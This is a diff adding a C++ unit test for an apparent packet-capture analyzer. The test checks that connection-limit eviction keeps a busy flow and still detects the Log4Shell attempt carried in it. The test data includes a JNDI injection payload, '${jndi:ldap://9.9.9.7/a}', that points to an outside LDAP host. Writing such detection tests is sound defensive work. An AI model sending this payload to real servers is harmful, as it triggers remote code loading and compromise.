@@ -358,6 +358,29 @@ TEST(CaptureAnalyzer, EndlessHeadIsBoundedAndStillExamined) {
   EXPECT_EQ(r.detections[0].detection.jndi.at(0).host, "1.2.3.4");
 }
 
+TEST(CaptureAnalyzer, FlowLimitEvictsTheIdlestAndKeepsWorking) {
+  AnalyzerOptions o;
+  o.max_flows = 16;
+  CaptureAnalyzer a(kLinkEthernet, o);
+  double t = 1;
+  // The attempt's connection stays busy while 200 others come and go idle.
+  Conn in{"203.0.113.5", 40000, "10.0.0.10", 80};
+  std::string head = in.C("GET / HTTP/1.1\r\nX-A: ");
+  a.AddFrame(t, B(head), static_cast<uint32_t>(head.size()));
+  for (uint16_t i = 0; i < 200; ++i) {
+    Conn other{"192.0.2.1", static_cast<uint16_t>(10000 + i), "10.0.0.10", 80};
+    std::string syn = other.Syn();
+    a.AddFrame(t += 0.01, B(syn), static_cast<uint32_t>(syn.size()));
+    std::string keep = in.C(" ");
+    a.AddFrame(t += 0.01, B(keep), static_cast<uint32_t>(keep.size()));
+  }
+  std::string rest = in.C("${jndi:ldap://9.9.9.7/a}\r\n\r\n");
+  a.AddFrame(t += 0.01, B(rest), static_cast<uint32_t>(rest.size()));
+  CaptureResult r = a.Finish();
+  EXPECT_GT(r.stats.dropped_flows, 150u);
+  ASSERT_EQ(r.detections.size(), 1u) << "the busy flow survived every eviction";
+}
+
 TEST(CaptureAnalyzer, ResponsesAreNotAttempts) {
   Feeder feed;
   Conn c{"192.168.2.6", 38782, "192.168.2.5", 8080};
